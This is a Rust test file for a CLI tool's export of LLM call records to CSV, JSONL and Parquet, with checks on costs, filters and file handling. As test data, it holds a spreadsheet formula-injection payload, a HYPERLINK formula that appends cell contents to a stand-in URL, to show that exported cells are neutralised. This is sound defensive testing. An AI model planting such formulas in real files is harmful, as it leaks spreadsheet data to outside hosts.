//! `llmx usage export`, as a user runs it on books of every kind of call: whole, failed, unpriced, estimated, open, corrected.

mod common;

use std::collections::BTreeMap;
#[cfg(feature = "parquet")]
use std::path::Path;
use std::path::PathBuf;

use common::binary::Llmx;
use llmx::domain::bill::Quote;
use llmx::domain::budget::Claim;
use llmx::domain::money::Usd;
use llmx::domain::record::{NewCall, Price, RecordLine, Resolution, Settlement};
use llmx::domain::spend::filter::Filter;
use llmx::domain::spend::period::Period;
use llmx::domain::spend::{Question, Tally};
use llmx::domain::window::Zone;
use llmx::ledger::{Admission, Ledger, Patience};
use llmx::render::usage::rows::{Table, as_given};
use serde_json::{Value, json};

/// 2026-11-21T23:30:00.250Z: the next day in Berlin.
const OPENED: i64 = 1_795_303_800_250;

/// What a spreadsheet would run, and what a CSV must quote.
const WICKED: &str = "=HYPERLINK(\"http://x/\"&A1,\"a\nb\")";

struct Books {
    folder: tempfile::TempDir,
    ledger: Ledger,
}

impl Books {
    fn new() -> Books {
        let folder = tempfile::tempdir().expect("a folder");
        let ledger = Ledger::open(&folder.path().join("ledger.db"), Patience::default()).expect("opens");
        Books { folder, ledger }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn export(&self, args: &[&str]) -> Llmx {
        Llmx::new(&["usage", "export", "2026-11-20..2026-11-22"])
            .args(args)
            .env("LLMX_DB", self.path("ledger.db"))
            .env("LLMX_ZONE", "Europe/Berlin")
    }

    fn open(&mut self, id: &str, ceiling: Option<&str>) -> llmx::ledger::Reservation {
        let call = NewCall {
            id: id.into(),
            command: "chat".into(),
            provider: "openai".into(),
            model: "gpt-4o-mini".into(),
            project: Some(WICKED.into()),
            user: Some("'=already".into()),
            tags: BTreeMap::from([("cost-center".to_owned(), "+1".to_owned())]),
            parameters: json!({}),
            ceiling: ceiling.map(usd),
            prompt: Some(json!({"messages": [{"parts": [{"text": "SECRET-PROMPT"}]}]})),
            ..NewCall::default()
        };
        let quote = Quote { ceiling: call.ceiling, ..Quote::default() };
        let claim = Claim { budgets: &[], quote: &quote, cap: None, floor: None, purse: None };
        match self.ledger.admit(&call, &claim, OPENED).expect("admitted") {
            Admission::Granted(reservation) => reservation,
            Admission::Refused(_) => panic!("no budget is in force"),
        }
    }

    fn book(&mut self, id: &str, settlement: &Settlement) {
        let reservation = self.open(id, Some("0.5"));
        self.ledger.settle(reservation, settlement, OPENED + 1234).expect("settled");
    }

    /// A call of each kind.
    fn of_every_kind() -> Books {
        let mut books = Books::new();
        books.book("whole", &whole());
        let failed = Settlement {
            error_class: Some("rate-limit".into()),
            error: Some("SECRET-ERROR".into()),
            status: Some(429),
            ..Settlement::nothing("refused")
        };
        books.book("failed", &failed);
        let unpriced = Settlement { basis: "unpriced".into(), lines: vec![line("input", 7, None)], ..whole() };
        books.book("unpriced", &Settlement { total: None, price: None, ..unpriced });
        let estimated = Settlement { basis: "estimated".into(), at_most: Some(usd("0.5")), ..whole() };
        books.book("estimated", &estimated);
        // The provider's own charge: more than its lines.
        books.book("stated", &Settlement { basis: "reported".into(), total: Some(usd("0.001")), ..whole() });
        books.book("corrected", &whole());
        books
            .ledger
            .resolve("corrected", Resolution::Amount(usd("0.0001")), "the bill", OPENED + 9)
            .expect("corrected");
        let reservation = books.open("open", Some("0.25"));
        drop(reservation);
        books
    }

    /// The same calls added up by the ledger itself.
    fn sums(&mut self) -> Tally {
        let zone = Zone::named("Europe/Berlin").expect("a zone");
        let period = Period::parse("2026-11-20..2026-11-22", OPENED, &zone).expect("days");
        self.ledger.spend(&Question { period, by: Vec::new(), filter: Filter::default() }).expect("adds up").total
    }
}

/// 600 × 0.15 + 200 × 0.6 = 210 millionths.
fn whole() -> Settlement {
    Settlement {
        first_token_ms: Some(321),
        model_served: Some("gpt-4o-mini-2024-07-18".into()),
        request_id: Some("req-1".into()),
        reasoning: Some(0),
        stop_reason: Some("stop".into()),
        basis: "table".into(),
        total: Some(usd("0.00021")),
        price: Some(Price {
            table: "bundled".into(),
            version: "7".into(),
            entry: "openai/gpt-4o-mini".into(),
            checked: Some("2026-11-20".into()),
            ..Price::default()
        }),
        lines: vec![line("input", 600, Some("0.15")), line("output", 200, Some("0.6"))],
        notes: vec!["a, \"note\"".into()],
        answer: Some(json!({"text": "SECRET-ANSWER"})),
        ..Settlement::default()
    }
}

fn line(meter: &str, quantity: u64, rate: Option<&str>) -> RecordLine {
    let picos = rate.map(|rate| i64::try_from(quantity).expect("small") * usd(rate).picos / 1_000_000);
    RecordLine {
        meter: meter.into(),
        quantity,
        per: 1_000_000,
        rate: rate.map(str::to_owned),
        amount: picos.map(Usd::from_picos),
        model: None,
    }
}

fn usd(text: &str) -> Usd {
    Usd::parse(text).expect("an amount")
}

type Cells = BTreeMap<String, String>;

fn csv_rows(bytes: &[u8]) -> Vec<Cells> {
    let mut reader = csv::Reader::from_reader(bytes);
    let head = reader.headers().expect("a head").clone();
    let cells = |row: csv::StringRecord| head.iter().map(str::to_owned).zip(row.iter().map(str::to_owned)).collect();
    reader.records().map(|row| cells(row.expect("as many cells as the head"))).collect()
}

fn named<'a>(rows: &'a [Cells], id: &str) -> &'a Cells {
    rows.iter().find(|row| row["id"] == id).expect("is exported")
}

fn total(rows: &[Cells], column: &str) -> i128 {
    rows.iter().filter(|row| !row[column].is_empty()).map(|row| i128::from(usd(&row[column]).picos)).sum()
}

#[test]
fn each_call_is_a_row_and_what_is_unknown_is_empty() {
    let mut books = Books::of_every_kind();
    let done = books.export(&[]).run().exits(0).stays_quiet();
    assert!(!done.text().contains("SECRET"), "what was said is no metadata");
    let rows = csv_rows(&done.out);
    assert_eq!(rows.len(), 7);
    let whole = named(&rows, "whole");
    for (column, cell) in [
        ("schema", "1"),
        ("opened", "2026-11-21T23:30:00.250Z"),
        ("finished", "2026-11-21T23:30:01.484Z"),
        ("day", "2026-11-22"),
        ("zone", "Europe/Berlin"),
        ("source", "llmx"),
        ("status", "ok"),
        ("requests", "1"),
        ("first_token_ms", "321"),
        ("total_ms", "1234"),
        ("input", "600"),
        ("cache_read", ""),
        ("output", "200"),
        ("reasoning", "0"),
        ("cost_usd", "0.00021"),
        ("cost_picos", "210000000"),
        ("at_most_usd", "0.00021"),
        ("price_checked", "2026-11-20"),
        ("ceiling_usd", "0.5"),
        ("corrected", "false"),
        ("tags", "{\"cost-center\":\"+1\"}"),
        ("notes", "[\"a, \\\"note\\\"\"]"),
    ] {
        assert_eq!(whole[column], cell, "{column}");
    }
    let cost = |id: &str| ["status", "cost_usd", "at_most_usd", "basis"].map(|column| named(&rows, id)[column].clone());
    assert_eq!(cost("failed"), ["rate-limit", "0", "0", "nothing"]);
    assert_eq!(cost("unpriced"), ["ok", "", "", "unpriced"]);
    assert_eq!(cost("estimated"), ["ok", "0.00021", "0.5", "estimated"]);
    assert_eq!(cost("corrected"), ["ok", "0.0001", "0.0001", "reported"]);
    assert_eq!(cost("open"), ["open", "", "", ""]);
    assert_eq!(named(&rows, "open")["ceiling_usd"], "0.25");
    let sums = books.sums();
    assert_eq!((total(&rows, "cost_usd"), total(&rows, "at_most_usd")), (sums.picos, sums.at_most));
}

#[test]
fn no_cell_is_a_formula_and_each_text_is_read_back() {
    let rows = csv_rows(&Books::of_every_kind().export(&[]).run().exits(0).out);
    for row in &rows {
        for (column, cell) in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{column}: {cell}");
        }
        assert_eq!((as_given(&row["project"]), as_given(&row["user"])), (WICKED, "'=already"));
    }
}

#[test]
fn lines_add_up_to_their_calls() {
    let books = Books::of_every_kind();
    let calls = csv_rows(&books.export(&[]).run().exits(0).out);
    let lines = csv_rows(&books.export(&["--lines"]).run().exits(0).out);
    for call in &calls {
        let own: Vec<Cells> = lines.iter().filter(|line| line["call"] == call["id"]).cloned().collect();
        assert_eq!(total(&own, "cost_usd"), total(std::slice::from_ref(call), "cost_usd"), "{}", call["id"]);
    }
    let of = |id: &str| {
        let own = lines.iter().filter(|line| line["call"] == id);
        own.map(|line| ["meter", "quantity", "per", "rate", "cost_picos"].map(|column| line[column].clone()))
            .collect::<Vec<_>>()
    };
    let [input, output] =
        [["input", "600", "1000000", "0.15", "90000000"], ["output", "200", "1000000", "0.6", "120000000"]];
    assert_eq!(of("whole"), [input, output]);
    assert_eq!(of("stated"), [input, output, ["", "", "", "", "790000000"]]);
    assert_eq!(of("corrected"), [input, output, ["", "", "", "", "-110000000"]]);
    assert_eq!(of("unpriced"), [["input", "7", "1000000", "", ""]]);
    assert!(of("open").is_empty() && of("failed").is_empty());
}

#[test]
fn json_lines_say_the_same_with_null_and_decimal_texts() {
    let books = Books::of_every_kind();
    let csv = csv_rows(&books.export(&[]).run().exits(0).out);
    let file = books.path("calls.jsonl");
    let said = books.export(&["-o", file.to_str().expect("text")]).run().exits(0);
    assert!(said.out.is_empty() && said.err.contains("7 rows"), "{}", said.err);
    let text = std::fs::read_to_string(&file).expect("written");
    let rows: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(rows.len(), csv.len());
    for (row, cells) in rows.iter().zip(&csv) {
        let row = row.as_object().expect("an object");
        assert_eq!(row.len(), Table::Calls.columns().len());
        for (column, value) in row {
            let said = match value {
                Value::Null => String::new(),
                Value::String(text) => text.clone(),
                other => other.to_string(),
            };
            assert_eq!(said, as_given(&cells[column]), "{column}");
        }
        assert!(row["cost_usd"].is_null() || row["cost_usd"].is_string());
        assert!(row["schema"].is_number() && row["tags"].is_object() && row["corrected"].is_boolean());
    }
}

#[test]
fn only_the_calls_that_are_asked_for_are_exported() {
    let books = Books::of_every_kind();
    let ids = |args: &[&str]| {
        let rows = csv_rows(&books.export(args).run().exits(0).out);
        rows.iter().map(|row| row["id"].clone()).collect::<Vec<_>>()
    };
    assert_eq!(ids(&["--where", "status=open"]), ["open"]);
    assert_eq!(ids(&["--where", "cost>0.0005"]), ["stated"]);
    // In New York it was the day before.
    let day = Llmx::new(&["usage", "export", "2026-11-22", "--zone", "America/New_York"])
        .env("LLMX_DB", books.path("ledger.db"))
        .run()
        .exits(0);
    assert!(csv_rows(&day.out).is_empty() && day.text().starts_with("schema,id,group,"));
}

#[test]
fn the_schema_is_told_without_a_ledger() {
    let said = Llmx::new(&["usage", "export", "--schema"]).run().exits(0).stays_quiet();
    for column in Table::Calls.columns().iter().chain(Table::Lines.columns()) {
        assert!(said.text().contains(column.name) && said.text().contains(column.meaning), "{}", column.name);
    }
    assert_eq!(said.booked(), 0);
}

#[test]
fn a_file_is_whole_or_not_there() {
    let books = Books::of_every_kind();
    let there = books.path("calls.csv");
    std::fs::write(&there, "before").expect("written");
    let to = there.to_str().expect("text");
    books.export(&["-o", to, "--format", "xlsx"]).run().exits(2);
    assert_eq!(std::fs::read_to_string(&there).expect("is there"), "before");
    books.export(&["-o", to, "-q"]).run().exits(0).stays_quiet();
    assert_eq!(csv_rows(&std::fs::read(&there).expect("is there")).len(), 7);
    let nowhere = books.path("no/such/calls.csv");
    books.export(&["-o", nowhere.to_str().expect("text")]).run().exits(2).says(&["no such folder"]);
    let unnamed = books.path("calls.xls");
    books.export(&["-o", unnamed.to_str().expect("text")]).run().exits(2).says(&[".csv, .jsonl or .parquet"]);
    let names: Vec<String> = std::fs::read_dir(books.folder.path())
        .expect("a folder")
        .map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned())
        .filter(|name| !name.starts_with("ledger."))
        .collect();
    assert_eq!(names, ["calls.csv"]);
}

#[test]
fn a_reader_that_has_enough_ends_it_quietly() {
    let books = Books::of_every_kind();
    let script = "\"$LLMX\" usage export 2026-11-20..2026-11-22 --format jsonl | head -n 1 | cut -c 1-12";
    let done = Llmx::shell(script).env("LLMX_DB", books.path("ledger.db")).run().exits(0).stays_quiet();
    assert_eq!(done.text().trim_end(), "{\"schema\":1,");
}

#[cfg(not(feature = "parquet"))]
#[test]
fn a_build_without_parquet_says_so() {
    let books = Books::of_every_kind();
    let file = books.path("calls.parquet");
    books.export(&["-o", file.to_str().expect("text")]).run().exits(2).says(&["without Parquet", "csv or jsonl"]);
    assert!(!file.exists());
}

#[cfg(feature = "parquet")]
mod parquet {
    use std::fs::File;
    use std::process::Command;

    use parquet::basic::{LogicalType, TimeUnit};
    use parquet::file::reader::{FileReader as _, SerializedFileReader};
    use parquet::record::Field;

    use super::{Books, Cells, Path, Table, Usd, as_given, csv_rows};

    fn exported(books: &Books, args: &[&str]) -> std::path::PathBuf {
        let file = books.path("rows.parquet");
        books.export(&["-o", file.to_str().expect("text"), "-q"]).args(args).run().exits(0).stays_quiet();
        file
    }

    /// Every cell as the CSV writes it.
    fn rows(file: &Path) -> Vec<Cells> {
        let reader = SerializedFileReader::new(File::open(file).expect("is there")).expect("Parquet");
        let rows = reader.get_row_iter(None).expect("rows");
        rows.map(|row| {
            let row = row.expect("a row");
            row.get_column_iter().map(|(name, field)| (name.clone(), text(field))).collect()
        })
        .collect()
    }

    fn text(field: &Field) -> String {
        match field {
            Field::Null => String::new(),
            Field::Str(text) => text.clone(),
            Field::Long(number) => number.to_string(),
            Field::Bool(flag) => flag.to_string(),
            Field::Date(days) => llmx::domain::spend::period::day(i64::from(*days)).expect("a day").to_string(),
            Field::TimestampMillis(at) => {
                let at = jiff::Timestamp::from_millisecond(*at).expect("an instant");
                at.strftime("%Y-%m-%dT%H:%M:%S.%3fZ").to_string()
            }
            Field::Decimal(decimal) => {
                let bytes: [u8; 16] = decimal.data().try_into().expect("16 bytes");
                assert_eq!((decimal.precision(), decimal.scale()), (38, 12));
                Usd::from_picos(i64::try_from(i128::from_be_bytes(bytes)).expect("an amount")).to_string()
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn parquet_says_the_same_with_types() {
        let books = Books::of_every_kind();
        for (table, args) in [(Table::Calls, &[][..]), (Table::Lines, &["--lines"])] {
            let mut csv = csv_rows(&books.export(args).run().exits(0).out);
            for cell in csv.iter_mut().flat_map(|row| row.values_mut()) {
                *cell = as_given(cell).to_owned();
            }
            let file = exported(&books, args);
            assert_eq!(rows(&file), csv);
            let reader = SerializedFileReader::new(File::open(&file).expect("is there")).expect("Parquet");
            let schema = reader.metadata().file_metadata().schema_descr_ptr();
            assert_eq!(schema.num_columns(), table.columns().len());
            let of = |name: &str| {
                let column = schema.columns().iter().find(|column| column.name() == name).expect("a column");
                column.logical_type_ref().cloned()
            };
            assert_eq!(of("cost_usd"), Some(LogicalType::decimal(12, 38)));
            assert_eq!(of("opened"), Some(LogicalType::timestamp(true, TimeUnit::MILLIS)));
            assert_eq!((of("day"), of("zone")), (Some(LogicalType::Date), Some(LogicalType::String)));
            let said = reader.metadata().file_metadata().key_value_metadata().expect("metadata");
            assert!(said.iter().any(|pair| pair.key == "llmx.schema" && pair.value.as_deref() == Some("1")));
        }
    }

    #[test]
    fn nothing_is_a_table_without_rows() {
        let books = Books::new();
        assert!(rows(&exported(&books, &[])).is_empty());
    }

    #[test]
    fn a_pipe_takes_the_same_bytes_as_a_file() {
        let books = Books::of_every_kind();
        let file = exported(&books, &[]);
        let piped = books.export(&["--format", "parquet"]).run().exits(0).stays_quiet();
        assert_eq!(piped.out, std::fs::read(file).expect("is there"));
    }

    /// An independent reader, where Python has one.
    #[expect(clippy::print_stderr, reason = "a skipped test must say so")]
    #[test]
    fn duckdb_reads_the_same_sums() {
        let books = Books::of_every_kind();
        let file = exported(&books, &[]);
        let script = "import sys\ntry:\n    import duckdb\nexcept ImportError:\n    sys.exit(77)\n\
            rows = duckdb.sql(f\"SELECT count(*), sum(cost_usd), sum(cost_picos), max(opened)::VARCHAR, \
            typeof(any_value(cost_usd)), typeof(any_value(opened)), typeof(any_value(day)) FROM '{sys.argv[1]}'\")\n\
            print(*rows.fetchall()[0], sep='|')\n";
        let python = Command::new("python3").args(["-c", script]).arg(&file).env("TZ", "UTC").output();
        let Some(done) = python.ok().filter(|done| done.status.code() != Some(77)) else {
            eprintln!("skipped: no Python with duckdb here");
            return;
        };
        let said = String::from_utf8(done.stdout).expect("text");
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        // 3 × 0.00021 + 0.001 + 0.0001, of which one is 0.
        let cells: Vec<&str> = said.trim().split('|').collect();
        assert_eq!(
            cells[..3],
            ["7", "0.001520000000", "1520000000"],
            "{said}{}",
            String::from_utf8_lossy(&done.stderr)
        );
        assert!(cells[3].starts_with("2026-11-21 23:30:00.25"), "{said}");
        assert_eq!(cells[4..], ["DECIMAL(38,12)", "TIMESTAMP WITH TIME ZONE", "DATE"], "{said}");
    }

    #[cfg(unix)]
    #[test]
    fn a_terminal_is_no_place_for_parquet() {
        let books = Books::of_every_kind();
        let (command, folder) = books.export(&["--format", "parquet"]).into_parts();
        let (pty, pts) = pty_process::blocking::open().expect("a pseudo-terminal");
        let environment = command.get_envs().filter_map(|(name, value)| Some((name, value?)));
        let child = pty_process::blocking::Command::new(command.get_program())
            .args(command.get_args())
            .env_clear()
            .envs(environment)
            .current_dir(folder.path())
            .stderr(std::process::Stdio::piped())
            .spawn(pts)
            .expect("starts");
        let done = child.wait_with_output().expect("ends");
        drop(pty);
        let said = String::from_utf8_lossy(&done.stderr);
        assert!(done.status.code() == Some(2) && said.contains("-o FILE.parquet"), "{said}");
    }
}
